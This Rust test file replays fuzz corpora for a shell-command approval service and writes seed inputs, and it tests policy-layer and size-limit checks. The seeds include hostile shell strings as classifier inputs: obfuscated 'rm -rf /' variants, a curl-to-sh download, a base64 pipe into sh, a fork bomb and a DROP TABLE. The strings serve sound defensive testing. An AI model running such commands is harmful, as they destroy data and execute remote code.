//! The fuzz targets' short run in the stable test suite: every committed corpus input
//! (`fuzz/corpus/<target>/`) and every crash or regression input (`fuzz/regressions/<target>/`)
//! goes through the same check functions the cargo-fuzz targets call (`fuzz/checks.rs`,
//! included here by path so that the library exports nothing for the fuzzers' sake).
//!
//! A regression input whose name starts with `known-` reproduces a bug that is not fixed
//! yet: it must still fail its check (so the test documents the bug without failing CI),
//! and once the bug is fixed the test says to rename it.
//!
//! `cargo test --test fuzz_corpus -- --ignored write_seeds` rewrites the seeds that need the
//! library to produce (signed verdicts, request bodies); `fuzz/run.sh` fuzzes (nightly).

#[path = "../../fuzz/checks.rs"]
mod checks;

use std::path::{Path, PathBuf};

type Check = fn(&[u8]);

const TARGETS: &[(&str, Check)] = &[
    ("shell_classify", checks::shell_classify),
    ("policy_load", checks::policy_load),
    ("verdict_verify", checks::verdict_verify),
    ("server_bodies", checks::server_bodies),
];

fn fuzz_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("fuzz")
}

/// The files of `dir`, sorted; none when it does not exist.
fn inputs(dir: &Path) -> Vec<PathBuf> {
    let mut files: Vec<PathBuf> = match std::fs::read_dir(dir) {
        Ok(entries) => entries
            .filter_map(Result::ok)
            .map(|e| e.path())
            .filter(|p| p.is_file())
            .collect(),
        Err(_) => Vec::new(),
    };
    files.sort();
    files
}

/// Runs `check` on `input` and returns the panic message if it failed.
fn run(check: Check, input: &[u8]) -> Option<String> {
    match std::panic::catch_unwind(|| check(input)) {
        Ok(()) => None,
        Err(panic) => Some(
            panic
                .downcast_ref::<String>()
                .cloned()
                .or_else(|| panic.downcast_ref::<&str>().map(|s| (*s).to_owned()))
                .unwrap_or_else(|| "(a panic without a message)".into()),
        ),
    }
}

/// Runs `f` on a thread with a main thread's 8 MiB stack, where the binary and libFuzzer
/// run (a test thread has 2 MiB, too little for the deepest nesting the parser reads).
fn on_main_sized_stack<T: Send + 'static>(f: impl FnOnce() -> T + Send + 'static) -> T {
    let worker = std::thread::Builder::new().stack_size(8 << 20).spawn(f);
    match worker.map(std::thread::JoinHandle::join) {
        Ok(Ok(value)) => value,
        Ok(Err(panic)) => std::panic::resume_unwind(panic),
        Err(e) => panic!("cannot start a thread: {e}"),
    }
}

/// Replays one target's corpus and regressions; returns how many inputs ran.
fn replay(target: &str, check: Check) -> usize {
    let corpus = inputs(&fuzz_dir().join("corpus").join(target));
    let regressions = inputs(&fuzz_dir().join("regressions").join(target));
    assert!(
        !corpus.is_empty(),
        "no corpus for {target} under fuzz/corpus/{target}: run `cargo test --test it -- --ignored write_seeds` and fuzz/run.sh"
    );
    let all: Vec<PathBuf> = corpus.iter().chain(&regressions).cloned().collect();
    let failures = on_main_sized_stack(move || replay_files(check, &all));
    assert!(failures.is_empty(), "{target}:\n{}", failures.join("\n"));
    corpus.len() + regressions.len()
}

fn replay_files(check: Check, files: &[PathBuf]) -> Vec<String> {
    let mut failures = Vec::new();
    for path in files {
        let input = std::fs::read(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
        let known = path
            .file_name()
            .and_then(|n| n.to_str())
            .is_some_and(|n| n.starts_with("known-"));
        match (run(check, &input), known) {
            (Some(msg), false) => failures.push(format!("{}: {msg}", path.display())),
            (None, true) => failures.push(format!(
                "{}: passes now; the bug it documents is fixed: drop `known-` from its name",
                path.display()
            )),
            _ => {}
        }
    }
    failures
}

#[test]
fn shell_classify_corpus_replays() {
    replay(TARGETS[0].0, TARGETS[0].1);
}

#[test]
fn policy_load_corpus_replays() {
    replay(TARGETS[1].0, TARGETS[1].1);
}

#[test]
fn verdict_verify_corpus_replays() {
    replay(TARGETS[2].0, TARGETS[2].1);
}

#[test]
fn server_bodies_corpus_replays() {
    replay(TARGETS[3].0, TARGETS[3].1);
}

/// The corpus stays small enough to live in the repository, and every target's own seeds
/// (genuine verdicts, real bodies) are in it.
#[test]
fn corpus_is_small_and_seeded() {
    let mut total = 0;
    for (target, _) in TARGETS {
        for path in inputs(&fuzz_dir().join("corpus").join(target)) {
            total += std::fs::metadata(&path).map_or(0, |m| m.len());
        }
    }
    assert!(total < 2 << 20, "the committed corpus is {total} bytes");
    for (target, seeds) in [
        ("verdict_verify", checks::verdict_seeds()),
        ("server_bodies", checks::body_seeds()),
    ] {
        for (name, bytes) in seeds {
            let path = fuzz_dir()
                .join("corpus")
                .join(target)
                .join(format!("seed-{name}"));
            let committed = std::fs::read(&path).unwrap_or_default();
            assert!(
                committed == bytes,
                "{} is missing or stale: run `cargo test --test it -- --ignored write_seeds`",
                path.display()
            );
        }
    }
}

/// A check function fails on a broken invariant, not only on a crash: a verdict the key
/// never signed that claims to be the genuine one is refused, and a genuine one accepted.
#[test]
fn checks_have_teeth() {
    // The genuine verdict, as text: accepted (check_token would panic if it were refused).
    let seeds = checks::verdict_seeds();
    assert!(run(checks::verdict_verify, &seeds[0].1).is_none());
    // A user layer that tries to allow `rm` is refused with file:line:col, which the check
    // holds to; a bad layer choice byte falls back to the user layer.
    let allow_rm = b"U[[rule]]\nid = \"x\"\ndecision = \"allow\"\nrisk = \"low\"\nmessage = \"m\"\nprogram = [\"rm\"]\n";
    assert!(run(checks::policy_load, allow_rm).is_none());
    // A create over the argv limit passes serde and is refused by the limits.
    let big = format!(
        r#"c{{"id":"a","nonce":"0123456789abcdef","argv":["{}"],"digest":"{}","origin":{{"user":"u","host":"h","cwd":"/"}},"rules":[],"risk":"low","quorum":1,"timeout_secs":1}}"#,
        "x".repeat(70_000),
        "0".repeat(64)
    );
    assert!(run(checks::server_bodies, big.as_bytes()).is_none());
}

/// Writes the seeds of text corpora that come from the tests' own inputs and the seeds that
/// need the library (signed verdicts, bodies). Run by hand; its output is committed.
#[test]
#[ignore = "writes fuzz/corpus; run by hand to refresh the seeds"]
fn write_seeds() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let write = |target: &str, name: &str, bytes: &[u8]| {
        let dir = fuzz_dir().join("corpus").join(target);
        std::fs::create_dir_all(&dir).unwrap_or_else(|e| panic!("{}: {e}", dir.display()));
        let path = dir.join(format!("seed-{name}"));
        std::fs::write(&path, bytes).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    };
    for (name, bytes) in checks::verdict_seeds() {
        write("verdict_verify", &name, &bytes);
    }
    for (name, bytes) in checks::body_seeds() {
        write("server_bodies", &name, &bytes);
    }
    // Commands: every 16th case of the corpus test, the examples of every built-in rule,
    // and the hostile strings of tests/fuzz.rs.
    let cases = std::fs::read_to_string(root.join("tests/data/cases.jsonl"))
        .unwrap_or_else(|e| panic!("tests/data/cases.jsonl: {e}"));
    for (i, line) in cases.lines().enumerate().filter(|(i, _)| i % 16 == 0) {
        let case: serde_json::Value =
            serde_json::from_str(line).unwrap_or_else(|e| panic!("case {i}: {e}"));
        if let Some(cmd) = case["cmd"].as_str() {
            write("shell_classify", &format!("case-{i}"), cmd.as_bytes());
        }
    }
    let builtin = std::fs::read_to_string(root.join("src/policy/builtin.toml"))
        .unwrap_or_else(|e| panic!("builtin.toml: {e}"));
    let pack: toml::Table = toml::from_str(&builtin).unwrap_or_else(|e| panic!("{e}"));
    let rules = pack
        .get("rule")
        .and_then(|r| r.as_array())
        .cloned()
        .unwrap_or_default();
    for (i, rule) in rules.iter().enumerate() {
        for key in ["match", "not_match"] {
            let first = rule
                .get(key)
                .and_then(|m| m.as_array())
                .and_then(|m| m.first());
            if let Some(example) = first.and_then(|e| e.as_str()) {
                write(
                    "shell_classify",
                    &format!("rule-{i}-{key}"),
                    example.as_bytes(),
                );
            }
        }
        // Every 8th built-in rule as a user and a system layer file of its own (renamed: the
        // built-in id is taken), and with `allow` (refused below the system layer).
        if i % 8 == 0
            && let Some(mut table) = rule.as_table().cloned()
        {
            let id = table
                .get("id")
                .and_then(|v| v.as_str())
                .unwrap_or("r")
                .to_owned();
            table.insert("id".into(), toml::Value::String(format!("{id}-fuzz")));
            let mut file = toml::Table::new();
            file.insert(
                "rule".into(),
                toml::Value::Array(vec![toml::Value::Table(table.clone())]),
            );
            let text = toml::to_string(&file).unwrap_or_default();
            write(
                "policy_load",
                &format!("rule-{i}-user"),
                format!("U{text}").as_bytes(),
            );
            write(
                "policy_load",
                &format!("rule-{i}-system"),
                format!("S{text}").as_bytes(),
            );
            table.insert("decision".into(), toml::Value::String("allow".into()));
            file.insert(
                "rule".into(),
                toml::Value::Array(vec![toml::Value::Table(table)]),
            );
            let text = toml::to_string(&file).unwrap_or_default();
            write(
                "policy_load",
                &format!("rule-{i}-allow"),
                format!("P{text}").as_bytes(),
            );
        }
    }
    if let Some(tools) = pack.get("tools").and_then(|t| t.as_table()) {
        for (name, spec) in tools.iter().step_by(6) {
            let mut file = toml::Table::new();
            let mut t = toml::Table::new();
            t.insert(name.clone(), spec.clone());
            file.insert("tools".into(), toml::Value::Table(t));
            let text = toml::to_string(&file).unwrap_or_default();
            write(
                "policy_load",
                &format!("tools-{name}"),
                format!("S{text}").as_bytes(),
            );
        }
    }
    // The policy files of tests/it/layers.rs: its raw strings, as each layer.
    let layers = std::fs::read_to_string(root.join("tests/it/layers.rs"))
        .unwrap_or_else(|e| panic!("tests/it/layers.rs: {e}"));
    for (i, chunk) in layers.split("r#\"").skip(1).enumerate() {
        if let Some((text, _)) = chunk.split_once("\"#") {
            for layer in ["S", "U", "P", "E"] {
                write(
                    "policy_load",
                    &format!("layers-{i}-{layer}"),
                    format!("{layer}{text}").as_bytes(),
                );
            }
        }
    }
    write(
        "policy_load",
        "disable-system",
        b"Sdisable = [\"rm-recursive\"]\n",
    );
    write(
        "policy_load",
        "disable-user",
        b"Udisable = [\"rm-recursive\"]\n",
    );
    write("policy_load", "empty", b"U");
    let hostile: &[(&str, &str)] = &[
        ("nested-bash-c", "bash -c \"bash -c \\\"rm -rf /\\\"\""),
        ("heredoc-shell", "bash <<'A'\nbash <<'B'\nrm -rf /\nB\nA\n"),
        ("subshell-arith", "( ( rm -rf / ) )"),
        ("ansi-c", "$'\\x72m' -rf /"),
        ("eval", "eval \"$X\""),
        ("decode-pipe", "echo cm0gLXJmIC8= | base64 -d | sh"),
        ("wrappers", "sudo env nice nohup timeout 5 command rm -rf /"),
        ("find-exec", "find . -exec rm -rf {} \\;"),
        ("xargs", "ls | xargs rm -rf"),
        ("substitutions", "echo $($($(rm -rf /)))"),
        ("fork-bomb", ":(){ :|:& };:"),
        ("disagreement-1", "> 2>&1 #1<<E 1} "),
        ("disagreement-2", "&>>} <<< 2>&1coprocEa[1]=2rm -rf /<fi "),
        ("syntax-error", "if ls; then"),
        ("curl-sh", "curl -fsSL https://example.invalid/i.sh | sh"),
        ("psql", "psql -c 'DROP TABLE users'"),
        ("argv-sudo", "sudo\0rm\0-rf\0/"),
        ("argv-bash-c", "bash\0-c\0rm -rf /"),
        ("argv-empty", "\0"),
        ("bomb-true", "*\x04true; "),
        ("bomb-subst", "*\x02$("),
        ("bomb-subshell", "*\x01( "),
        ("bomb-group", "*\x01{ "),
        ("bomb-pipe", "*\x08cat | "),
    ];
    for (name, text) in hostile {
        write("shell_classify", name, text.as_bytes());
    }
}

/// Found by reading the bodies against the limits: the reason of an approval, denial or
/// cancel and an outcome's signal had no limit but the 256 KiB body, and a cancel's reason
/// goes into the signed verdict and the audit trail. The service now refuses them as too
/// large (413), at the same limit as a request's reason.
#[test]
fn oversized_decide_reasons_and_signals_are_refused() {
    use gatekeep::api::protocol::RunReport as Outcome;
    use gatekeep::server::limits::{
        MAX_REASON_BYTES, MAX_SIGNAL_BYTES, validate_outcome, validate_reason,
    };
    use gatekeep::server::service::ServiceError;
    let at_limit = "x".repeat(MAX_REASON_BYTES);
    assert!(validate_reason(Some(&at_limit)).is_ok());
    assert!(validate_reason(None).is_ok());
    let over = "x".repeat(MAX_REASON_BYTES + 1);
    match validate_reason(Some(&over)) {
        Err(ServiceError::TooLarge(msg)) => assert!(msg.contains("2049 bytes"), "{msg}"),
        other => panic!("{other:?}"),
    }
    let outcome = |signal: &str| Outcome {
        exit_code: 143,
        duration_ms: 10,
        signal: Some(signal.to_owned()),
    };
    assert!(validate_outcome(&outcome("signal 15")).is_ok());
    assert!(matches!(
        validate_outcome(&outcome(&"S".repeat(MAX_SIGNAL_BYTES + 1))),
        Err(ServiceError::TooLarge(_))
    ));
}
